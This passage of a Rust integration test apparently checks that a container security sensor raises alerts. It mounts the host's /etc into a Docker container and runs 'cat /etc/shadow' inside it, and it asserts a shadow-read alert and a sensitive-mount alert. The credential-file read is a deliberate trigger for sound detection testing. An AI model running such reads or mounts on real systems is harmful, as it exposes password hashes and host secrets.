    let Some(mut docker) = Docker::start("dk") else {
        return;
    };
    let podman = Podman::new("dk");
    let archive = podman.save("docker-archive");
    docker.run(&["load", "-i", archive.to_str().expect("utf-8")]);
    docker.images.push(podman.image.clone());
    let sensor = Sensor::spawn(
        &["run", "--json", "--stats-interval", "0"],
        "Sensor started",
    );
    let name = format!("vigil-dk-{}", std::process::id());
    let id = docker
        .run(&[
            "run",
            "-d",
            "--name",
            &name,
            "--network",
            "none",
            "-v",
            "/etc:/host-etc:ro",
            &podman.image,
            "sleep",
            "100000",
        ])
        .trim()
        .to_string();
    docker.containers.push(name.clone());
    assert!(
        id.len() == 64 && id.bytes().all(|b| b.is_ascii_hexdigit()),
        "docker run printed {id:?}"
    );
    docker.run(&["exec", &name, "cat", "/etc/shadow"]);
    std::thread::sleep(Duration::from_millis(500));
    let (out, log) = sensor.stop_raw("INT");
    let alerts = parse_alerts(&out);
    let ctx = || dump(&alerts, &log);
    let short = &id[..12];
    let repo = podman.image.rsplit_once(':').expect("tag").0;

    assert_shadow_read(&alerts, short, repo, &ctx);

    let started: Vec<&Json> = alerts
        .iter()
        .filter(|a| {
            a["rule"] == "Container Started with Sensitive Host Mount"
                && field(a, "container.id") == short
        })
        .collect();
    assert_eq!(started.len(), 1, "one sensitive-mount alert:\n{}", ctx());
    let a = started[0];
    assert_eq!(field(a, "container.name"), name.as_str(), "{a}");
    let mounts = field(a, "container.mounts").as_str().unwrap_or_default();
    assert!(mounts.contains("/etc:/host-etc:ro:false:"), "{a}");
    assert_eq!(field(a, "container.image.repository"), repo, "{a}");
}
